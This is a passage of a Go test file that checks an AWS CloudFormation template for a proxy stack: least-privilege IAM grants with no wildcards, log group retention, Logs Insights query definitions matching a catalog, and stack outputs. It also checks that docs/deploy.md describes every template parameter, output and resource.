	for _, s := range asMap(role.Policies[0].PolicyDocument)["Statement"].([]any) {
		st := asMap(s)
		if st["Effect"] != "Allow" || st["NotAction"] != nil || st["NotResource"] != nil || st["Condition"] != nil {
			t.Errorf("statement %v: want a plain Allow", st)
		}
		for _, a := range strs(st["Action"]) {
			granted[a] = append(granted[a], strs(st["Resource"])...)
		}
	}
	logsGroup := []string{"arn:aws:logs:us-east-1:123456789012:log-group:ref:LogGroup", "getatt:LogGroup.Arn"}
	want := map[string][]string{
		"logs:CreateLogGroup":  logsGroup,
		"logs:CreateLogStream": logsGroup,
		"logs:PutLogEvents":    logsGroup,
	}
	if c.vals["CaSecretArn"] != "" {
		want["secretsmanager:GetSecretValue"] = []string{c.vals["CaSecretArn"]}
	}
	if u, ok := strings.CutPrefix(c.vals["PackageUrl"], "s3://"); ok {
		want["s3:GetObject"] = []string{"arn:aws:s3:::" + u}
	}
	// Session Manager's minimum; its channel actions take no resource but *.
	sessionManager := []string{"ssm:UpdateInstanceInformation", "ssmmessages:CreateControlChannel",
		"ssmmessages:CreateDataChannel", "ssmmessages:OpenControlChannel", "ssmmessages:OpenDataChannel"}
	if c.vals["EnableSsm"] == "true" {
		for _, a := range sessionManager {
			want[a] = []string{"*"}
		}
	}
	if !maps.EqualFunc(granted, want, slices.Equal) {
		t.Errorf("instance role grants\n%v\nwant\n%v", granted, want)
	}
	for action, resources := range granted {
		if slices.Contains(sessionManager, action) {
			continue
		}
		for _, r := range resources {
			if strings.Contains(action, "*") || r == "*" || strings.HasSuffix(r, ":*:*") || strings.HasSuffix(r, ":::*") {
				t.Errorf("%s on %s: want no wildcard actions or resources", action, r)
			}
		}
	}
	prof, err := res.goformatio.GetIAMInstanceProfileWithName("InstanceProfile")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(prof.Roles, []string{"ref:InstanceRole"}) {
		t.Errorf("instance profile roles %v", prof.Roles)
	}
}

// records: the log group and the Logs Insights query definitions, which
// must be the catalog's (proxy/records), saved under the names `gwlbproxy
// queries install` uses.
func (c *templateCheck) records(t *testing.T) {
	res := c.res
	lg, err := res.goformatio.GetLogsLogGroupWithName("LogGroup")
	if err != nil {
		t.Fatal(err)
	}
	if deref(lg.LogGroupName) != c.vals["LogGroupName"] || strconv.Itoa(derefInt(lg.RetentionInDays)) != c.vals["LogRetentionDays"] {
		t.Errorf("log group %s retention %d, want %s and %s days", deref(lg.LogGroupName), derefInt(lg.RetentionInDays),
			c.vals["LogGroupName"], c.vals["LogRetentionDays"])
	}
	if res.resources["LogGroup"]["DeletionPolicy"] != "Retain" {
		t.Errorf("log group deletion policy %v: the audit trail must outlive the stack", res.resources["LogGroup"]["DeletionPolicy"])
	}
	defs := res.goformatio.GetAllLogsQueryDefinitionResources()
	got := map[string]string{}
	for name, d := range defs {
		if _, dup := got[d.Name]; dup {
			t.Errorf("two query definitions named %s", d.Name)
		}
		got[d.Name] = d.QueryString
		if !slices.Equal(d.LogGroupNames, []string{"ref:LogGroup"}) {
			t.Errorf("query definition %s runs on %v, want the stack's LogGroup", name, d.LogGroupNames)
		}
	}
	for _, q := range records.Queries {
		name := records.SavedQueryPrefix + q.Name
		s, ok := got[name]
		switch {
		case !ok:
			t.Errorf("no query definition %s (catalog query %s); add:\n%s", name, q.Name, queryYAML(q))
		case s != q.Query:
			t.Errorf("query definition %s differs from the catalog; it should read:\n%s", name, queryYAML(q))
		}
		delete(got, name)
	}
	for name := range got {
		t.Errorf("query definition %s is not in the catalog (proxy/records/queries.go)", name)
	}
}

// queryYAML is the template text of the definition of q.
func queryYAML(q records.Query) string {
	var b strings.Builder
	id := ""
	for _, p := range strings.Split(q.Name, "-") {
		id += strings.ToUpper(p[:1]) + p[1:]
	}
	fmt.Fprintf(&b, "  Query%s:\n    Type: AWS::Logs::QueryDefinition\n    Properties:\n      Name: %s%s\n"+
		"      LogGroupNames: [!Ref LogGroup]\n      QueryString: |-\n", id, records.SavedQueryPrefix, q.Name)
	for _, l := range strings.Split(q.Query, "\n") {
		fmt.Fprintf(&b, "        %s\n", l)
	}
	return b.String()
}

// outputs: every output resolves, and the ones docs/deploy.md names exist.
func (c *templateCheck) outputs(t *testing.T) {
	for _, name := range []string{"GwlbEndpointId", "EndpointServiceName", "SpokeWorkloadSubnetId", "LogGroupName", "NatAddresses", "InstanceRoleArn"} {
		if str(c.res.outputs[name]) == "" {
			t.Errorf("output %s: %v", name, c.res.outputs[name])
		}
	}
}

// TestDocsDescribeTemplate: the template's section of docs/deploy.md
// names every resource of the template in its table of parts, and has a
// row for every parameter and output; it names nothing the template lacks.
func TestDocsDescribeTemplate(t *testing.T) {
	rt := loadRawTemplate(t)
	doc := readFile(t, "../docs/deploy.md")
	section := func(heading string) string {
		start := strings.Index(doc, "\n"+heading+"\n")
		if start < 0 {
			t.Fatalf("docs/deploy.md has no section %q", heading)
		}
		s := doc[start+len(heading)+2:]
		if end := strings.Index(s, "\n#"); end >= 0 {
			s = s[:end]
		}
		return s
	}
	// firstCells lists the first cell of every table row but the header.
	firstCells := func(s string) []string {
		var cells []string
		for _, line := range strings.Split(s, "\n") {
			if f := strings.Split(line, "|"); len(f) > 2 && strings.TrimSpace(f[0]) == "" {
				cells = append(cells, strings.TrimSpace(f[1]))
			}
		}
		if len(cells) < 2 {
			return nil
		}
		return cells[2:] // the header and the --- row
	}
	compare := func(what string, documented, actual []string) {
		t.Helper()
		slices.Sort(documented)
		slices.Sort(actual)
		if !slices.Equal(documented, actual) {
			t.Errorf("docs/deploy.md lists the %s\n%q\nthe template has\n%q", what, documented, actual)
		}
	}
	var params, outputs []string
	for _, c := range firstCells(section("### Parameters")) {
		params = append(params, strings.Trim(c, "`"))
	}
	for _, c := range firstCells(section("### Outputs")) {
		outputs = append(outputs, strings.Trim(c, "`"))
	}
	compare("parameters", params, slices.Collect(maps.Keys(rt.params)))
	compare("outputs", outputs, slices.Collect(maps.Keys(asMap(rt.doc["Outputs"]))))

	// Resources: `Name`, `Name1`/`2` (Name1 and Name2), `Prefix*`.
	named := regexp.MustCompile("`([A-Za-z]+)([0-9]?)(\\*?)`((?:/`[0-9]`)*)")
	var prefixes []string
	documented := map[string]bool{}
	for _, c := range firstCells(section("### What each part is")) {
		for _, m := range named.FindAllStringSubmatch(c, -1) {
			if m[3] == "*" {
				prefixes = append(prefixes, m[1])
				continue
			}
			documented[m[1]+m[2]] = true
			for _, d := range regexp.MustCompile("[0-9]").FindAllString(m[4], -1) {
				documented[m[1]+d] = true
			}
		}
	}
	for name := range rt.resources {
		covered := documented[name]
		for _, p := range prefixes {
			covered = covered || strings.HasPrefix(name, p)
		}
		if !covered && !strings.Contains(name, "RouteTable") && !strings.Contains(name, "Route") {
			t.Errorf("docs/deploy.md does not name the template's resource %s", name)
		}
	}
	for name := range documented {
		if _, ok := rt.resources[name]; !ok {
			t.Errorf("docs/deploy.md names the resource %s, which the template lacks", name)
		}
	}
}

func deref(s *string) string {
	if s == nil {
		return ""
	}
	return *s
}

func derefBool(b *bool) string {
	if b == nil {
		return "unset"
	}
	return strconv.FormatBool(*b)
}

func derefInt(n *int) int {
	if n == nil {
		return 0
	}
	return *n
}
